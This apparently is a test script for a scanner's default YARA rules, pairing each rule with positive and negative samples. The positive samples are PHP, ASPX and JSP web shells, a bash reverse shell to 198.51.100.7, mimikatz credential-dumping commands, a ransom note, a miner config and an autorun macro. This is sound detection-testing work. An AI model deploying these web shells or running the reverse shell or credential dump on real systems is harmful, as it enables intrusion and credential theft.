#!/bin/sh
# yara_default_rules.sh SEAWALL - every shipped rule in rules/default has a positive sample,
# matches it and not its negative one, and carries the meta keys description, severity,
# mitre_att and author (the meta check is shown to fail on a rule without meta). Samples are
# harmless text written here; the EICAR test string is assembled from pieces so the repository
# never holds it whole.
SW=${1:?usage: yara_default_rules.sh SEAWALL}
cd "$(dirname "$0")/../.." || exit 2
T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT INT TERM
pass=0 fail=0
ok() { pass=$((pass + 1)); echo "ok - $*"; }
nok() { fail=$((fail + 1)); echo "not ok - $*"; }

mkdir -p "$T/pos" "$T/neg"
# rule positive-sample negative-sample (file names; contents below)
w() { printf '%s\n' "$2" >"$T/$1"; }

w pos/seawall_webshell_php_exec_input.php '<?php if (isset($_POST["c"])) { system($_POST["c"]); } ?>'
w neg/seawall_webshell_php_exec_input.php '<?php $out = system("uptime"); echo htmlspecialchars($_GET["name"]); ?>'
w pos/seawall_webshell_aspx_process_start.aspx '<%@ Page Language="C#" %>
<script runat="server">void Page_Load(){ var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); System.Diagnostics.Process.Start(p); }</script>'
w neg/seawall_webshell_aspx_process_start.aspx '<%@ Page Language="C#" %>
<script runat="server">void Page_Load(){ Label1.Text = Server.HtmlEncode(Request.QueryString["q"]); }</script>'
w pos/seawall_webshell_jsp_runtime_exec.jsp '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
w neg/seawall_webshell_jsp_runtime_exec.jsp '<%@ page import="java.io.*" %><% String n = request.getParameter("name"); out.println(n); %>'
w pos/seawall_ransomware_note.txt 'ATTENTION! All your files have been encrypted.
To get the decryption tool, pay the ransom in Bitcoin. Contact us via Tor Browser at http://example.onion'
w neg/seawall_ransomware_note.txt 'IT notice: laptops now use full-disk encryption. Your files have been encrypted at rest
by BitLocker. Nothing to do on your side.'
w pos/seawall_coinminer_xmrig_config.json '{"autosave": true, "donate-level": 1, "cpu": true,
 "pools": [{"algo": "rx/0", "url": "pool.example.net:3333", "user": "4Abc", "pass": "x"}]}'
w neg/seawall_coinminer_xmrig_config.json '{"name": "portal", "pools": [], "url": "https://portal.example.org/"}'
w pos/seawall_credential_dumper_mimikatz_like.txt 'privilege::debug
sekurlsa::logonpasswords
exit'
w neg/seawall_credential_dumper_mimikatz_like.txt 'Audit note: watch for privilege::debug in command lines.'
w pos/seawall_rat_reverse_shell.sh '#!/bin/sh
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
w neg/seawall_rat_reverse_shell.sh '#!/bin/sh
exec bash -i'
w pos/seawall_rat_njrat_like.txt "|'|'|netsh firewall add allowedprogram \"x.exe\" \"x.exe\" ENABLE"
w neg/seawall_rat_njrat_like.txt 'netsh firewall add allowedprogram "backup.exe" "Backup" ENABLE'
w pos/seawall_office_macro_autorun_shell.bas 'Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim s: Set s = CreateObject("WScript.Shell")
    s.Run "calc.exe"
End Sub'
w neg/seawall_office_macro_autorun_shell.bas 'Attribute VB_Name = "Module1"
Sub AutoOpen()
    MsgBox "Welcome to the city budget workbook"
End Sub'
# EICAR: 68 bytes, assembled from pieces.
p1='X5O!P%@AP[4\PZX54(P^)7CC)7}$'
p2='EICAR-STANDARD-ANTIVIRUS-'
p3='TEST-FILE!$H+H*'
printf '%s%s%s' "$p1" "$p2" "$p3" >"$T/pos/seawall_eicar_test_file.com"
printf '%s%s%s' "$p1" "$p2" "TEST-FILE" >"$T/neg/seawall_eicar_test_file.com"

"$SW" rules check rules/default >"$T/check" 2>&1
if grep -q ', 0 failed, 0 warnings' "$T/check"; then ok "rules/default compiles cleanly"
else nok "rules/default compiles cleanly: $(cat "$T/check")"; fi

"$SW" scan --no-cache --rules rules/default -t 2 -o "$T/eve.json" "$T/pos" "$T/neg" 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && ok "scan exits 1 on matches" || nok "scan exits 1 on matches (got $rc: $(cat "$T/err"))"
# Every alert's rule must carry the meta keys the shipped rules promise (description, severity,
# mitre_att, author). The checker prints one line per rule lacking one and exits 1.
cat >"$T/metacheck.py" <<'PY'
import json, sys
missing = set()
for line in open(sys.argv[1]):
    ev = json.loads(line)
    if ev["event_type"] == "alert":
        for k in ("description", "severity", "mitre_att", "author"):
            if k not in ev["yara"].get("meta", {}):
                missing.add((ev["yara"]["rule"], k))
for rule, k in sorted(missing):
    print("%s has no meta %s" % (rule, k))
sys.exit(1 if missing else 0)
PY
if python3 "$T/metacheck.py" "$T/eve.json" >"$T/meta.out"; then
    ok "every alert's rule has meta description, severity, mitre_att and author"
else
    nok "rules without meta: $(tr '\n' ';' <"$T/meta.out")"
fi
# The same check must catch a rule that lacks its meta: the shipped rules plus one without.
mkdir -p "$T/rules-nometa" "$T/nometa"
cp rules/default/*.yar "$T/rules-nometa/"
printf 'rule seawall_test_no_meta { strings: $a = "seawall-no-meta-probe" condition: $a }\n' \
    >"$T/rules-nometa/zz-no-meta.yar"
printf 'seawall-no-meta-probe\n' >"$T/nometa/sample.txt"
"$SW" scan --no-cache --rules "$T/rules-nometa" -o "$T/eve-nometa.json" "$T/nometa" 2>/dev/null
python3 "$T/metacheck.py" "$T/eve-nometa.json" >"$T/meta2.out"
rc=$?
[ $rc -eq 1 ] && [ "$(grep -c '^seawall_test_no_meta has no meta' "$T/meta2.out")" -eq 4 ] &&
    [ "$(grep -vc '^seawall_test_no_meta ' "$T/meta2.out")" -eq 0 ] &&
    ok "the meta check fails on a rule without meta (and names only that rule)" ||
    nok "the meta check missed a rule without meta (exit $rc): $(head -c 300 "$T/meta2.out")"

python3 - "$T" <<'PY' || fail=$((fail + 1))
import json, os, sys
t = sys.argv[1]
hits = set()
for line in open(os.path.join(t, "eve.json")):
    ev = json.loads(line)
    if ev["event_type"] == "alert":
        hits.add((ev["fileinfo"]["filename"], ev["yara"]["rule"]))
bad = 0
n = 0
for kind in ("pos", "neg"):
    for name in sorted(os.listdir(os.path.join(t, kind))):
        rule = os.path.splitext(name)[0]
        path = os.path.join(t, kind, name)
        got = {r for (f, r) in hits if f == path}
        n += 1
        if kind == "pos" and rule in got and got <= {rule}:
            print("ok - %s matches its positive sample" % rule)
        elif kind == "neg" and not got:
            print("ok - %s does not match its negative sample" % rule)
        else:
            bad += 1
            print("not ok - %s %s sample: matched %s" % (rule, kind, sorted(got)))
# Every shipped rule has a positive sample, so every rule's meta is checked above too.
import glob, re
shipped = set()
for f in glob.glob("rules/default/*.yar"):
    shipped |= set(re.findall(r"^\s*(?:(?:private|global)\s+)*rule\s+(\w+)", open(f).read(), re.M))
samples = {os.path.splitext(x)[0] for x in os.listdir(os.path.join(t, "pos"))}
for rule in sorted(shipped - samples):
    bad += 1
    print("not ok - %s has no positive sample in this test" % rule)
print("default-rules samples: %d checked, %d wrong, %d shipped rules" % (n, bad, len(shipped)))
sys.exit(1 if bad else 0)
PY
echo "yara_default_rules: $pass passed, $fail failed"
[ $fail -eq 0 ]
